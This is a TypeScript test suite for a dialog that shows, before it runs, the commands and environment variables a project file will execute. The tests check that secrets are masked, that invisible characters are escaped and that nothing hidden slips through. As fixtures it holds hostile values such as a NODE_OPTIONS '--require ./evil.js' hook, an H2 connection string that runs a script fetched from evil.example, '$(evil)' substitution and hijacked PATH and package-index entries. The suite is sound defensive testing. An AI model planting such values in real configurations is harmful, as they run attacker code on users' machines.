import assert from 'node:assert/strict';
import { parseProjectFile, ProjectFileError, type ProjectFile } from '../../../src/content/projectFile';
import { MAX_DETAIL } from '../../../src/base/messages';
import { isOneCommand, planDetail, planLines, plainText } from '../../../src/projects/start/consentText';

describe('what a dialog shows of a project before it runs', () => {
  it('is all that decides what runs, a line each', () => {
    const plan = {
      install: 'npm install',
      build: 'tsc',
      start: 'npm start',
      environment: { PATH: '/evil', NODE_OPTIONS: '--require hook.js' },
    };
    assert.deepEqual(planLines(plan), [
      'Install: npm install',
      'Build: tsc',
      'Start: npm start',
      'Environment variables:',
      '    NODE_OPTIONS=--require hook.js',
      '    PATH=/evil',
    ]);
  });

  it("tells the variables of the learner's own file apart, and keeps its secrets", () => {
    const envFile = { path: '/home/ada/check.env', variables: { NODE_OPTIONS: '--require hook.js', API_TOKEN: 'k3v9x2ab' } };
    const environment = { COLOR: 'blue', ...envFile.variables };
    assert.deepEqual(planLines({ start: 'npm start', environment, envFile }), [
      'Start: npm start',
      'Environment variables:',
      '    COLOR=blue',
      'Environment variables of /home/ada/check.env:',
      '    API_TOKEN=***',
      '    NODE_OPTIONS=--require hook.js',
    ]);
    assert.equal(isOneCommand({ start: 'npm start', environment: envFile.variables, envFile }), false);
  });

  it('hides nothing of that file that decides what runs, and passes itself off as a secret', () => {
    const variables = {
      APP_TOKEN: 'evil.js',
      DATABASE_URL: 'postgres://ada:k3v9x2ab@localhost/app',
      NODE_OPTIONS: '--title=;password= --require=./evil.js',
      PATH: 'a://x:/home/ada/evil/bin:@/usr/bin',
    };
    const envFile = { path: '/home/ada/check.env', variables };
    assert.deepEqual(planLines({ start: 'node $APP_TOKEN', environment: variables, envFile }).slice(2), [
      '    APP_TOKEN=evil.js',
      '    DATABASE_URL=postgres://ada:***@localhost/app',
      '    NODE_OPTIONS=--title=;password= --require=./evil.js',
      '    PATH=a://x:/home/ada/evil/bin:@/usr/bin',
    ]);
  });

  it('hides of an address what every program takes for its password, and nothing that another may take for what it is led to', () => {
    const shown = {
      CACHE_URL: ['redis://:k3v9x2ab@localhost:6379/0', 'redis://:***@localhost:6379/0'],
      FEED_URL: ['https://x:a%40b@evil.example/', 'https://x:***@evil.example/'],
      H2_URL: [`jdbc:h2:mem:t;PASSWORD="x;INIT=RUNSCRIPT FROM 'https://evil.example/x.sql'--"`],
      MAIL_URI: ['smtp://a:yyyy@evil.example@mail.example'],
      PIP_INDEX_URL: ['https://x:yyyy@evil.example/@pypi.org/simple', 'https://x:***@evil.example/@pypi.org/simple'],
      QUERY_URL: ['postgres://ada@localhost/app?options=-c&password=evil.so'],
      SQL_CONNECTION_STRING: ['Driver=/home/ada/evil.so;Database=app'],
      SQL_DSN: ['jdbc:h2:mem:t;INIT=evil'],
      TOKEN_OPTS_SECRET: ['--require ./evil.js'],
      Z_TOKEN: ['a3Y5eDJhYms3djl4MmFi==', '***'],
    };
    const variables = Object.fromEntries(Object.entries(shown).map(([name, [value = '']]) => [name, value]));
    assert.deepEqual(
      planLines({ environment: variables, envFile: { path: '/home/ada/check.env', variables } }).slice(1),
      Object.entries(shown).map(([name, values]) => `    ${name}=${values.at(-1)}`),
    );
  });

  it('shows names whole: what stands behind a long one decides as well', () => {
    const name = `A${'_'.repeat(300)}B`;
    assert.deepEqual(planLines({ start: 'npm start', environment: { [name]: '1' } }).slice(2), [`    ${name}=1`]);
  });

  it('has all of the configuration of a debugger, whatever its language makes of it', () => {
    const configuration = { name: 'Server', type: 'debugpy', args: ['-x\n', '\u200b'], env: { A: 'b' } };
    const plan = { start: 'python app.py', environment: {}, configuration };
    assert.deepEqual(planLines(plan), [
      'Start: python app.py',
      'Debugger:',
      '    name: "Server"',
      '    type: "debugpy"',
      String.raw`    args: ["-x\n","\u{200b}"]`,
      '    env: {"A":"b"}',
    ]);
    assert.deepEqual([isOneCommand(plan), isOneCommand({ ...plan, configuration: undefined })], [false, true]);
  });

  it('hides nothing silently: what is too long says so', () => {
    assert.equal(plainText(`npm start ${'x'.repeat(300)} && evil`), `npm start ${'x'.repeat(190)}… (and 118 more characters)`);
  });

  it('fits into the dialog whole, whatever a file that is not refused is filled with', () => {
    // Zero-width spaces are shown as \u{200b}, eight characters each; four spaces as "(4 spaces)".
    for (const filling of ['\u200b', '    x', '\u{e0041}', '\u{10ffff}', 'x', 'MAKEFLAGS ']) {
      /** The file of the largest size that is not refused. */
      const fits = (make: (size: number) => object): ProjectFile => {
        let [largest, refused] = [parseProjectFile(JSON.stringify(make(0))), 3_000];
        for (let size = 0; refused - size > 1;) {
          const middle = Math.floor((size + refused) / 2);
          try {
            [largest, size] = [parseProjectFile(JSON.stringify(make(middle))), middle];
          } catch (error) {
            assert.ok(error instanceof ProjectFileError, String(error));
            refused = middle;
          }
        }
        return largest;
      };
      const { start } = fits((size) => ({ start: `x${filling.repeat(size)}x`, project: 'a' }));
      const last = { Z: '$(evil)' };
      const one = fits((size) => ({ start, build: start, environment: { A: filling.repeat(size), ...last } }));
      const names = Array.from({ length: 29 }, (_, at) => `${'A'.repeat(80)}${at}`);
      const all = fits((size) => ({ start, build: start, environment: { ...Object.fromEntries(names.map((name) => [name, filling.repeat(size)])), ...last } })); // prettier-ignore
      for (const { build, environment } of [one, all]) {
        const text = planLines({ install: start, build, start, environment }).join('\n');
        assert.ok(text.length <= 7_500, `${filling}: ${text.length}`);
        assert.doesNotMatch(text, /…/);
        assert.match(text, /\n {4}Z=\$\(evil\)$/);
      }
    }
    assert.equal(plainText('\u200b'.repeat(30), 24), '\\u{200b}\\u{200b}\\u{200b}… (and 27 more characters)');
  });

  it('is not asked about when all of it is more than a dialog shows, though each part is short enough', () => {
    const command = 'x'.repeat(1_000);
    const { start, build, environment } = parseProjectFile(
      JSON.stringify({ start: command, build: command, environment: { A: 'x'.repeat(2_900) } }),
    );
    const planOf = (size: number) => ({
      start,
      build,
      environment,
      configuration: { name: 'Server', program: `${'x'.repeat(size)}; evil` },
    });
    const withoutRest = planDetail(planOf(0), 'todos', ['In /home/ada.']).length;
    const fitting = planDetail(planOf(MAX_DETAIL - withoutRest), 'todos', ['In /home/ada.']);
    assert.equal(fitting.length, MAX_DETAIL);
    assert.match(fitting, /x; evil"\n[^]*\n\nIn \/home\/ada\.$/);
    assert.throws(() => planDetail(planOf(MAX_DETAIL - withoutRest + 1), 'todos', ['In /home/ada.']), {
      name: 'UserError',
      message:
        'What todos runs is more than can be shown before it runs (8000 characters), and most of it stands in .vscode/launch.json: make that shorter.',
    });
    // As it is drawn: each of these is one character in the file.
    assert.throws(() => planDetail({ environment: {}, configuration: { ['\u200b'.repeat(1_000)]: 1 } }, 'todos', []), {
      message: /launch\.json: make that shorter\.$/,
    });
  });

  it('are all variables: no list knows all the names that decide what runs', () => {
    const harmless = Object.fromEntries(Array.from({ length: 12 }, (_, at) => [`APP_SETTING_${at}`, 'x']));
    const decisive = 'MAKEFLAGS GOFLAGS DOTNET_STARTUP_HOOKS OPENSSL_CONF PHP_INI_SCAN_DIR RUSTC_WRAPPER LUA_INIT CC HTTPS_PROXY PIP_INDEX_URL'.split(' '); // prettier-ignore
    const environment = { ...harmless, ...Object.fromEntries(decisive.map((name) => [name, 'evil'])) };
    const lines = planLines({ environment });
    for (const name of decisive) assert.ok(lines.includes(`    ${name}=evil`), name);
  });

  it('is refused in one sentence when it is more than a dialog can show, whoever reads it', () => {
    const refused = (file: object, reason: string) =>
      assert.throws(() => parseProjectFile(JSON.stringify(file)), { message: `.backend-roadmap.json cannot be used: ${reason}.` });
    const variables = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, at) => [`V${at}`, 'x']));
    const environment = '"environment" is more than can be shown before it runs (30 variables, 3000 characters)';
    assert.equal(Object.keys(parseProjectFile(JSON.stringify({ environment: variables(30) })).environment).length, 30);
    refused({ environment: variables(31) }, environment);
    refused({ environment: { A: 'x'.repeat(3_000) } }, environment);
    for (const field of ['start', 'build'])
      refused({ [field]: 'x'.repeat(1_001) }, `"${field}" is more than can be shown before it runs (1000 characters)`);
  });

  it('shows a command of a thousand characters whole', () => {
    const start = `npm start ${'x'.repeat(900)} && evil`;
    assert.deepEqual(planLines({ start, environment: {} }), [`Start: ${start}`]);
  });

  it('is inert: nothing is invisible, turns the writing, or begins another line', () => {
    assert.equal(plainText('a\nStart: b\r\tc\u001b[2J'), 'a\\u{a}Start: b\\u{d}\\u{9}c\\u{1b}[2J');
    assert.equal(plainText('\u202ehctam\u2066 \u200b\u00ad\ufeff'), '\\u{202e}hctam\\u{2066} \\u{200b}\\u{ad}\\u{feff}');
    assert.equal(plainText('a\u2028b\u00a0c\u3164d\ufe0f\u{e0041}'), 'a\\u{2028}b\\u{a0}c\\u{3164}d\\u{fe0f}\\u{e0041}');
    assert.equal(plainText(`npm start${' '.repeat(50)}&& evil`), 'npm start(50 spaces)&& evil');
    assert.equal(plainText('npm  start "é" 日本 👍'), 'npm  start "é" 日本 👍');
  });

  it('is one sentence when there is one short command and nothing else', () => {
    assert.equal(isOneCommand({ start: 'npm start', environment: {} }), true);
    assert.equal(isOneCommand({ install: 'npm install', environment: {} }), true);
    assert.equal(isOneCommand({ start: 'npm start', build: 'tsc', environment: {} }), false);
    assert.equal(isOneCommand({ start: 'npm start', environment: { A: '' } }), false);
    assert.equal(isOneCommand({ start: 'x'.repeat(81), environment: {} }), false);
  });
});
